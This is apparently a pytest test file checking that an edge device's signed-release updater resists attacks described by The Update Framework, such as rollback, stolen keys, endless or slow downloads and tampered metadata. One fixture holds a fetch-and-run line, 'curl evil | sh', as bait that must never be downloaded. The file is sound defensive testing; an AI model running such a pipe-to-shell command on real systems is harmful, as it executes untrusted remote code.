"""The attacks that The Update Framework names, each against the way on which this edge gets its releases.

The attacker is the server, the line to it, or somebody with some of its keys; the bundle is right.
"""

from __future__ import annotations

import json
import time

import pytest
from fakes_fleet_service import FakeFleet
from releases import write_tiny_release
from signed_site import SignedSite, in_days

from edge.errors import UpdateDelayedError, UpdateError
from edge.releases.fetcher import DownloadSettings
from edge.releases.updates import Updates
from reid.release import FILES, MANIFEST_FILE, MODEL_FILE, load_release

_TIMESTAMP = "metadata/timestamp.json"


@pytest.fixture
def releases(tmp_path):
    """Two releases, the second one newer."""
    return [write_tiny_release(tmp_path / f"r{number}", seed=number, version=str(number)) for number in (1, 2)]


@pytest.fixture
def site(releases):
    site = SignedSite()
    site.publish(releases[0])
    return site


@pytest.fixture
def server(site):
    server = FakeFleet(site.files)
    yield server
    server.stop()


@pytest.fixture
def updates(tmp_path, site, server):
    return Updates(tmp_path / "updates", lambda: site.first_root, server.line)


def files_of(updates):
    return sorted(path.name for path in updates._downloads.rglob("*") if path.is_file())


def test_without_an_attack_the_release_arrives_whole(updates, releases):
    folder = updates.fetch(releases[0].ref)
    assert load_release(folder).manifest == releases[0].manifest
    assert {path.name for path in folder.iterdir()} == {MANIFEST_FILE, *FILES}


def test_arbitrary_software_is_not_installed(updates, site, server, releases):
    stranger = SignedSite()
    stranger.publish(releases[0])
    server.files = stranger.files
    with pytest.raises(UpdateError, match="not signed by the keys of this site"):
        updates.fetch(releases[0].ref)


def test_altered_software_is_not_installed(updates, site, server, releases):
    url = site.url_of(f"{releases[0].ref.space}/{MODEL_FILE}")
    server.files[url] = server.files[url][:-1] + b"x"
    with pytest.raises(UpdateError, match="altered: not the file that was signed"):
        updates.fetch(releases[0].ref)
    assert MODEL_FILE not in files_of(updates)


def test_rollback_to_older_metadata_is_refused(updates, site, server, releases):
    before = dict(site.files)
    site.publish(releases[1])
    updates.fetch(releases[1].ref)
    server.files = before
    with pytest.raises(UpdateError, match="older than what this edge has seen already"):
        updates.fetch(releases[0].ref)


def test_rollback_is_refused_after_a_restart_too(updates, site, server, releases, tmp_path):
    before = dict(site.files)
    site.publish(releases[1])
    updates.fetch(releases[1].ref)
    server.files = before
    started_again = Updates(tmp_path / "updates", lambda: site.first_root, server.line)
    with pytest.raises(UpdateError, match="older than what this edge has seen already"):
        started_again.fetch(releases[0].ref)


def test_fast_forward_is_recovered_from_by_a_new_root(updates, site, releases):
    site.timestamp.version = site.snapshot.version = 1_000_000  # the attacker's doing, with the stolen keys
    site.sign()
    updates.fetch(releases[0].ref)
    site.timestamp.version = site.snapshot.version = 10
    site.sign()
    with pytest.raises(UpdateError, match="older than what this edge has seen already"):
        updates.fetch(releases[0].ref)
    site.rotate("timestamp", "snapshot")
    site.sign()
    assert updates.fetch(releases[0].ref).is_dir()


def test_indefinite_freeze_ends_with_the_timestamp(updates, site, releases):
    site.timestamp.expires = in_days(-1)
    site.write_timestamp()
    with pytest.raises(UpdateError, match=r"its signatures are over: .* this clock is wrong \(\d{4}-"):
        updates.fetch(releases[0].ref)


@pytest.mark.parametrize("role", ["root", "snapshot", "targets"])
def test_what_any_role_signed_ends(updates, site, releases, role):
    getattr(site, role).expires = in_days(-1)
    if role == "root":
        site.rotate()
    site.sign()
    with pytest.raises(UpdateError, match="its signatures are over"):
        updates.fetch(releases[0].ref)


def test_mix_and_match_of_metadata_is_refused(updates, site, server, releases):
    old_targets = site.files[f"metadata/{site.targets.version}.targets.json"]
    site.publish(releases[1])
    server.files[f"metadata/{site.targets.version}.targets.json"] = old_targets
    with pytest.raises(UpdateError, match="altered: not the file that was signed"):
        updates.fetch(releases[0].ref)


def test_mix_and_match_of_files_is_refused(updates, site, server, releases):
    site.publish(releases[1])
    ours, other = (site.url_of(f"{release.ref.space}/{MODEL_FILE}") for release in releases)
    server.files[ours] = server.files[other]
    with pytest.raises(UpdateError, match="altered"):
        updates.fetch(releases[0].ref)


def test_endless_data_ends_at_the_signed_length(updates, site, server, releases):
    url = site.url_of(f"{releases[0].ref.space}/{MODEL_FILE}")
    server.endless.add(url)
    with pytest.raises(UpdateError, match="endless: longer than what was signed"):
        updates.fetch(releases[0].ref)
    assert updates.num_bytes < len(site.files[url]) + (1 << 20)


def test_endless_metadata_ends_at_its_bound(updates, server, releases):
    server.endless.add(_TIMESTAMP)
    with pytest.raises(UpdateError, match="endless"):
        updates.fetch(releases[0].ref)
    assert updates.num_bytes < 1 << 20


@pytest.mark.parametrize("is_dripping", [True, False], ids=["drips", "silent"])
def test_slow_retrieval_is_called_off_and_at_last_refused(tmp_path, site, server, releases, is_dripping):
    pace = DownloadSettings(least_kib_s=1280)  # a quarter of a MiB in 0.2 s
    updates = Updates(tmp_path / "updates", lambda: site.first_root, server.line, pace)
    server.chunk_bytes, server.pause_s = (1, 0.02) if is_dripping else (1 << 20, 60.0)
    begun_s = time.monotonic()
    for _ in range(2):
        with pytest.raises(UpdateDelayedError, match="too slow"):
            updates.fetch(releases[0].ref)
    with pytest.raises(UpdateError, match="too slow") as refused:
        updates.fetch(releases[0].ref)
    assert not isinstance(refused.value, UpdateDelayedError)
    assert time.monotonic() - begun_s < 30


def test_extraneous_dependencies_are_never_asked_for(updates, site, server, releases):
    """A release has no dependencies: of all that is signed, only its own known files are downloaded."""
    space = releases[0].ref.space
    site.add_target(f"{space}/setup.sh", b"curl evil | sh")
    site.add_target("other/setup.sh", b"curl evil | sh")
    site.sign()
    updates.fetch(releases[0].ref)
    assert {path for path, _ in server.targets_asked} == {f"targets/{space}/{name}" for name in (MANIFEST_FILE, *FILES)}


def test_wrong_software_under_a_right_name_is_not_installed(updates, site, releases):
    site.publish(releases[1], space=releases[0].ref.space)
    with pytest.raises(UpdateError, match=r"asked for tiny 1 .*, but what is signed under that name is tiny 2"):
        updates.fetch(releases[0].ref)


def test_what_the_site_withdrew_is_not_installed(updates, site, releases):
    site.targets.targets.clear()
    site.sign()
    with pytest.raises(UpdateError, match="is not among what this site has signed"):
        updates.fetch(releases[0].ref)


@pytest.mark.parametrize("role", ["targets", "snapshot", "timestamp"])
def test_one_stolen_key_is_not_enough_for_other_software(updates, site, server, releases, role):
    """With one key of three nothing else can be installed: what follows from it needs the keys of the others."""
    thief = SignedSite()
    thief.signers[role] = site.signers[role]
    thief.targets.version = thief.snapshot.version = thief.timestamp.version = 100
    thief.publish(releases[1])
    server.files.update({path: content for path, content in thief.files.items() if "root" not in path})
    with pytest.raises(UpdateError, match="not signed by the keys of this site"):
        updates.fetch(releases[1].ref)


def test_a_stolen_timestamp_key_freezes_no_longer_than_the_snapshot_lasts(updates, site, releases):
    site.snapshot.expires = in_days(-1)
    site.write_snapshot()
    site.timestamp.expires = in_days(1000)  # the thief's doing
    site.write_timestamp()
    with pytest.raises(UpdateError, match="its signatures are over"):
        updates.fetch(releases[0].ref)


def test_stolen_online_keys_cannot_sign_software(updates, site, server, releases):
    """Snapshot and timestamp are signed by a machine on the network; who takes it over still lacks the targets' key."""
    thief = SignedSite()
    thief.signers["snapshot"], thief.signers["timestamp"] = site.signers["snapshot"], site.signers["timestamp"]
    thief.targets.version = thief.snapshot.version = thief.timestamp.version = 100
    thief.publish(releases[1])
    server.files.update({path: content for path, content in thief.files.items() if "root" not in path})
    with pytest.raises(UpdateError, match="not signed by the keys of this site"):
        updates.fetch(releases[1].ref)


@pytest.mark.parametrize("role", ["targets", "snapshot", "timestamp", "root"])
def test_a_stolen_key_is_worth_nothing_after_its_rotation(updates, site, server, releases, role):
    stolen = site.signers[role]
    site.rotate(role)
    site.sign()
    updates.fetch(releases[0].ref)
    site.signers[role] = stolen
    if role == "root":
        site.root.version += 1
        site.write_root()
    site.sign()
    with pytest.raises(UpdateError, match="not signed by the keys of this site"):
        updates.fetch(releases[0].ref)


def test_a_root_that_the_former_root_did_not_sign_is_refused(updates, site, server, releases):
    thief = SignedSite()
    thief.root.version = 2
    thief.write_root()
    server.files["metadata/2.root.json"] = thief.files["metadata/2.root.json"]
    with pytest.raises(UpdateError, match="not signed by the keys of this site"):
        updates.fetch(releases[0].ref)


def test_a_malicious_mirror_does_no_lasting_harm(updates, site, server, releases):
    for files in ({}, dict.fromkeys(site.files, b"\0" * 999), dict.fromkeys(site.files, b'{"signed":' * 5000)):
        server.files = files
        with pytest.raises(UpdateError):
            updates.fetch(releases[0].ref)
    server.files = site.files
    assert load_release(updates.fetch(releases[0].ref)).ref == releases[0].ref


def test_metadata_edited_by_hand_is_refused(updates, site, server, releases):
    path = f"metadata/{site.targets.version}.targets.json"
    document = json.loads(site.files[path])
    document["signed"]["targets"] = {}
    server.files[path] = json.dumps(document).encode()
    with pytest.raises(UpdateError, match="altered"):
        updates.fetch(releases[0].ref)
